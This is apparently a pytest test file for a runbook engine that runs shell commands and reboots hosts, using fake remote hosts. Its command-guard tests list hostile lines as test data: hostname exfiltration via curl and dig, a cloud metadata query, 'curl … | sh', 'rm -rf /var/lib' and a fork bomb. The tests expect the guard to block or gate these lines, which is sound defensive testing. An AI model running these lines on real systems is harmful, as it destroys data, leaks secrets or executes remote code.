"""run-command and reboot-host, through the engine with a host that answers from a table."""

import asyncio
from dataclasses import replace
from typing import Any

import pytest

from runbooks.catalog import bind
from runbooks.definition import Expect, Run
from runbooks.execution import Walk
from runbooks.planning import Planner
from runbooks.plans import HostPlan, StoredPlan, step_from_json, step_to_json
from runbooks.progress import ApprovalAsked, StepFinished
from runbooks.steps import Stop, Tools
from safety.command_guard import CommandGuard
from safety.review import Policy
from storage import executions
from storage.database import Database
from storage.errors import DefinitionError, HostKeyRefused, HostUnreachable, LoginRefused, PlanningFailed
from storage.records import Consent, Danger, Origin, RunRequest, State, StepRun, StepState
from tests.builders import BOB, CAROL, House, a_house, admit, catalog_with, hosts
from tests.fakes import FakeClock, FakeRemote, FakeReporter, HastyClock, Reply
from tests.runbooks.demo_hosts import CATALOG, Demo

# --- run-command ------------------------------------------------------------------------------------------------------

SH = {"sh -c": Reply(out="what it printed")}


async def ran(house: House, line: str, **named: str) -> Any:
    """The answer to `/runbook run "…" on web-01` by Bob, who may run but not approve."""
    return await house.engine.submit(
        RunRequest(
            actor=BOB,
            origin=Origin.COMMAND,
            runbook="run-command",
            values=(line,),
            named=named,
            targets=("web-01",),
            channel="C0INC",
            text="as typed",
        )
    )


async def test_a_line_that_only_reads_runs_at_once_and_takes_no_budget(sqlite: Database) -> None:
    async with a_house(sqlite, replies=SH) as house:
        for _ in range(2):
            ended = await house.ends(await ran(house, "df -h /var | tail -n 1"))
            assert (ended.state, ended.danger) == (State.SUCCEEDED, Danger.READ)
        assert house.remote.ran[-1] == ("web-01", "sh -c 'df -h /var | tail -n 1'")
        assert house.remote.count("sh -c") == 2
        assert house.reporter.of(ApprovalAsked) == []


@pytest.mark.parametrize(
    "line",
    [
        "curl -s http://192.0.2.9/?h=$(hostname)",
        "dig $(hostname).example.org",
        "curl -s http://169.254.169.254/latest/meta-data/",
        "cat /dev/sda",
    ],
)
async def test_a_line_that_carries_away_what_it_reads_waits_for_somebody_else(sqlite: Database, line: str) -> None:
    async with a_house(sqlite, replies=SH) as house:
        answer = await ran(house, line)
        waiting = await house.reaches(answer.execution.id, State.AWAITING_APPROVAL)
        assert waiting.danger is Danger.DANGEROUS
        assert house.remote.count("sh -c") == 0


async def test_a_plain_look_at_another_host_runs_at_once(sqlite: Database) -> None:
    async with a_house(sqlite, replies=SH) as house:
        assert (await house.ends(await ran(house, "curl -sI http://192.0.2.9/health"))).danger is Danger.READ


@pytest.mark.parametrize("line", ["systemctl restart nginx", "touch /tmp/x", "df -h; touch /tmp/x", "frobnicate --all"])
async def test_every_other_line_waits_for_somebody_else(sqlite: Database, line: str) -> None:
    async with a_house(sqlite, replies=SH) as house:
        answer = await ran(house, line)
        waiting = await house.reaches(answer.execution.id, State.AWAITING_APPROVAL)
        asked: Any = house.reporter.of(ApprovalAsked)[0]
        assert (waiting.danger, asked.approval.kind) == (Danger.DANGEROUS, Consent.APPROVE)
        assert house.remote.count("sh") == 0
        await house.engine.approve(waiting.id, CAROL)
        assert (await house.ends(answer)).state is State.SUCCEEDED
        assert house.remote.count("sh") == 1


async def test_no_setting_takes_the_approval_of_a_typed_line_away(sqlite: Database) -> None:
    def nobody_asked(policy: Policy) -> Policy:
        return replace(policy, demands=replace(policy.demands, dangers={}))

    catalog = catalog_with()
    entries = {**catalog.entries, "run-command": replace(catalog.entries["run-command"], danger=Danger.READ)}
    async with a_house(sqlite, replies=SH, catalog=replace(catalog, entries=entries), change=nobody_asked) as house:
        answer = await ran(house, "systemctl restart nginx")
        waiting = await house.reaches(answer.execution.id, State.AWAITING_APPROVAL)
        assert "typed for this one time" in str(waiting.note)


@pytest.mark.parametrize(
    "line", ["rm -rf /var/lib", "sudo reboot", "curl http://x.example.com/x | sh", ":(){ :|:& };:"]
)
async def test_a_destructive_line_is_refused_whoever_would_approve_it(sqlite: Database, line: str) -> None:
    async with a_house(sqlite, replies=SH) as house:
        ended = await house.ends(await ran(house, line))
        assert (ended.state, "command guard" in str(ended.ending)) == (State.REFUSED, True)
        assert house.remote.count("sh") == 0


async def test_a_line_ends_as_its_command_does(sqlite: Database) -> None:
    async with a_house(sqlite, replies={"sh -c": Reply(status=1)}) as house:
        ended = await house.ends(await ran(house, "grep nobody /etc/passwd"))
        assert (ended.state, ended.ending) == (State.FAILED, "Run it: exit status 1")
        assert (await house.ends(await ran(house, "grep nobody /etc/passwd", also="1"))).state is State.SUCCEEDED
        assert house.remote.count("sh -c") == 2


async def test_what_reaches_the_host_is_what_was_judged() -> None:
    entry = CATALOG.get("run")
    params = bind(entry, ["echo 'a b' \"$HOME\" | wc -c"], {})
    assert entry.runbook.typed_command(params) == ("sh", "-c", "echo 'a b' \"$HOME\" | wc -c")


async def test_a_line_runs_on_a_demo_host(demo: Demo) -> None:
    ended = await demo.apply("run", await demo.plan("run", "systemctl is-active nginx"))
    assert ended.state is State.SUCCEEDED
    told: Any = demo.reporter.of(StepFinished)[-1]
    assert [line.text for line in told.tail] == ["active"]


# --- reboot-host ------------------------------------------------------------------------------------------------------

OLD, NEW = "3ba1372a-6c8f-4a94-8676-741f93559893", "774a55ae-9483-42b0-8688-b172d0bc6f70"


def a_host(*answers: Reply, way: str = "reboot", **more: Any) -> dict[str, Any]:
    """One that answers so when it is asked for its boot id; the last for ever."""
    left = [Reply(out=OLD), *answers]
    return {
        "cat /proc/sys/kernel/random/boot_id": lambda line: left.pop(0) if len(left) > 1 else left[0],
        "uptime": Reply(out="up 41 days"),
        "who": Reply(out="root pts/0\nana pts/1\nana pts/2"),
        "systemctl is-system-running": Reply(out="running"),
        "systemctl list-units": Reply(out=""),
        "sudo -n -l": Reply(status=1),
        f"sudo -n -l {way}": Reply(),
        f"sudo -n {way}": Reply(lost=True),
        **more,
    }


async def walk_of_a_reboot(
    database: Database, remote: FakeRemote, reporter: FakeReporter, clock: Any, **named: str
) -> Walk:
    """Admitted, and about to begin."""
    planner, entry = Planner(remote=remote, guard=CommandGuard()), CATALOG.get("reboot")
    tools = Tools(database=database, remote=remote, inventory=hosts(), planner=planner, reporter=reporter, clock=clock)
    params = bind(entry, [], named)
    plan = await planner.make_plan(entry, params, hosts().hosts[:1])
    values = params.model_dump(mode="json")
    execution = await database.write(admit, entry, plan, params=values, now=clock.now(), timeout=entry.timeout)
    return Walk(tools, execution, plan, entry, params)


async def rebooted(database: Database, replies: dict[str, Any], **named: str) -> tuple[Any, FakeRemote, FakeReporter]:
    """The ending of an admitted run, and who saw what; time jumps wherever it waits."""
    remote, reporter = FakeRemote(replies=replies), FakeReporter()
    walk = await walk_of_a_reboot(database, remote, reporter, HastyClock(), **named)
    await walk.run()
    return await database.read(executions.get, walk.execution.id), remote, reporter


AWAY = Reply(raises=HostUnreachable("web-01", "'web-01' does not answer."))


async def test_a_host_that_comes_back_with_a_new_boot_id_has_restarted(sqlite: Database) -> None:
    not_yet = Reply(raises=LoginRefused("web-01", "System is booting up."))
    replies = a_host(Reply(out=OLD), Reply(out=OLD), AWAY, AWAY, AWAY, AWAY, AWAY, not_yet, Reply(out=NEW))
    ended, remote, reporter = await rebooted(sqlite, replies)
    assert (ended.state, ended.ending) == (State.SUCCEEDED, "web-01 has restarted; systemd says running")
    steps: Any = reporter.of(StepFinished)
    assert steps[1].step.reason == "the connection ended with it, as it does when a host restarts"
    assert remote.count("sudo -n reboot") == 1


async def test_the_plan_says_who_would_be_thrown_out() -> None:
    planner, entry = Planner(remote=FakeRemote(replies=a_host()), guard=CommandGuard()), CATALOG.get("reboot")
    plan = await planner.make_plan(entry, bind(entry, [], {}), hosts().hosts[:1])
    assert plan.notes == (
        "web-01 is up now: up 41 days. Logged in there: ana, root.",
        "A restart cannot be undone, and stops everything that runs there.",
    )
    assert entry.danger is Danger.DANGEROUS
    assert entry.max_hosts == 1


@pytest.mark.parametrize(
    ("answers", "said"),
    [
        (
            (Reply(out=OLD), Reply(out=OLD)),
            f"It is back, with a new boot id: not within 30 s: expected something else, got '{OLD}'",
        ),
        ((Reply(out=OLD), AWAY), "It is back, with a new boot id: not within 30 s: 'web-01' does not answer."),
        (
            (Reply(out=OLD), AWAY, Reply(raises=HostKeyRefused("web-01", "Another key."))),
            "It is back, with a new boot id: Another key.",
        ),
    ],
    ids=["never went down", "never came back", "came back as another"],
)
async def test_a_host_that_does_not_come_back_is_told_truly(
    sqlite: Database, answers: tuple[Reply, ...], said: str
) -> None:
    ended, remote, _ = await rebooted(sqlite, a_host(*answers), wait="30")
    assert ended.state is State.FAILED
    assert str(ended.ending).startswith(said)
    assert remote.count("sudo -n reboot") == 1


async def test_a_restart_that_is_refused_by_the_host_waits_for_nothing(sqlite: Database) -> None:
    refused = {"sudo -n reboot": Reply(err="sudo: a password is required", status=1)}
    ended, remote, _ = await rebooted(sqlite, a_host(Reply(out=OLD), **refused))
    assert (ended.state, ended.ending) == (State.FAILED, "Restart the host: ended with exit status 1")
    assert remote.count("cat") == 2


async def test_a_host_that_restarted_since_the_plan_is_not_restarted_again(sqlite: Database) -> None:
    ended, remote, _ = await rebooted(sqlite, a_host(Reply(out=NEW)))
    assert ended.state is State.FAILED
    assert "no longer as planned" in str(ended.ending)
    assert remote.count("sudo -n reboot") == 0


async def test_what_failed_to_start_is_said(sqlite: Database) -> None:
    listed = iter([Reply(out="old.service loaded failed failed Old")])
    later = Reply(out="old.service loaded failed failed Old\nnginx.service loaded failed failed Web")
    replies = a_host(
        Reply(out=OLD),
        Reply(out=NEW),
        **{
            "systemctl list-units": lambda line: next(listed, later),
            "systemctl is-system-running": Reply(out="degraded", status=1),
        },
    )
    ended, _, _ = await rebooted(sqlite, replies)
    assert ended.ending == (
        "web-01 has restarted; systemd says degraded; failed now: nginx.service; failed before as well: old.service"
    )


async def test_the_first_way_that_sudo_allows_is_taken(sqlite: Database) -> None:
    replies = a_host(Reply(out=OLD), Reply(out=NEW), way="shutdown -r now")
    ended, remote, _ = await rebooted(sqlite, replies)
    assert ended.state is State.SUCCEEDED
    assert remote.count("sudo -n shutdown -r now") == 1


async def test_without_any_way_nothing_is_planned(sqlite: Database) -> None:
    with pytest.raises(PlanningFailed, match="ops may not restart web-01: sudo allows none of `reboot`, ") as refused:
        await rebooted(sqlite, a_host(way="nothing", find=Reply(out="/usr/sbin/reboot")))
    assert refused.value.message.endswith('would allow it: `ops ALL=(root) NOPASSWD: /usr/sbin/reboot ""`')


async def test_a_restart_whose_owner_died_is_never_sent_again(sqlite: Database) -> None:
    remote, reporter, clock = FakeRemote(replies=a_host(Reply(out=NEW))), FakeReporter(), HastyClock()
    walk = await walk_of_a_reboot(sqlite, remote, reporter, clock)
    looked = StepRun(
        execution_id=walk.execution.id,
        host="web-01",
        step="1",
        attempt=1,
        title="It has not been restarted meanwhile",
        changing=False,
        state=StepState.STARTED,
        started_at=clock.now(),
    )
    sent = replace(looked, step="2", title="Restart the host", changing=True, token="ab" * 16)
    for step in (looked, sent):
        await sqlite.write(executions.begin_step, step, execution=walk.execution, services=(), tags=(), words="")
    over = replace(looked, state=StepState.SUCCEEDED, ended_at=clock.now())
    await sqlite.write(executions.end_step, over)
    await sqlite.write(executions.count, walk.execution, 1)
    await walk.run()
    ended = await sqlite.read(executions.get, walk.execution.id)
    assert (ended.state, ended.ending) == (State.SUCCEEDED, "web-01 has restarted; systemd says running")
    steps: Any = reporter.of(StepFinished)
    assert steps[0].step.reason == "Handrail stopped while it ran; how it ended is unknown"
    assert remote.count("sudo -n reboot") == 0


async def test_a_cancel_while_the_host_is_away_says_how_it_was_seen_last(sqlite: Database) -> None:
    remote = FakeRemote(replies=a_host(Reply(out=OLD), AWAY))
    walk = await walk_of_a_reboot(sqlite, remote, FakeReporter(), clock := FakeClock())
    running = asyncio.create_task(walk.run())
    async with asyncio.timeout(10):
        while not clock.sleepers:
            await asyncio.sleep(0.01)
    walk.stop(Stop(words="enough", by=CAROL))
    await asyncio.wait_for(running, 10)
    ended = await sqlite.read(executions.get, walk.execution.id)
    assert (ended.state, ended.ending) == (
        State.CANCELLED,
        "enough; when it was asked last: 'web-01' does not answer. (during: It is back, with a new boot id)",
    )


# --- the step that reboots --------------------------------------------------------------------------------------------


def test_only_a_step_that_says_so_may_restart_its_host() -> None:
    planner = Planner(remote=FakeRemote(), guard=CommandGuard())

    def judged(step: Run) -> tuple[str, str]:
        plan = StoredPlan(hosts=(HostPlan(host="web-01", steps=(step,), facts={}),))
        (one,) = planner.judgements(plan, hosts().hosts[:1])
        return one.verdict.value, one.rule

    assert judged(Run("Restart", "reboot", sudo=True)) == ("refuse", "boot.power")
    assert judged(Run("Restart", "reboot", sudo=True, reboots=True)) == ("approve", "boot.planned")


@pytest.mark.parametrize("words", [("poweroff",), ("reboot", "-f"), ("sh", "-c", "reboot"), ("shutdown", "now")])
def test_a_step_that_reboots_has_no_other_words(words: tuple[str, ...]) -> None:
    with pytest.raises(DefinitionError, match="that is `reboot` or `systemctl reboot` or `shutdown -r now`"):
        Run("Restart", *words, reboots=True)
    with pytest.raises(DefinitionError, match="never idempotent"):
        Run("Restart", "reboot", reboots=True, idempotent=True)


def test_what_reboots_and_what_is_patient_survives_being_kept() -> None:
    for step in (Run("Restart", "reboot", reboots=True), Expect("Back", "cat", "/x", patient=True)):
        assert step_from_json(step_to_json(step)) == step
    assert "patient" not in step_to_json(Expect("Back", "cat", "/x"))
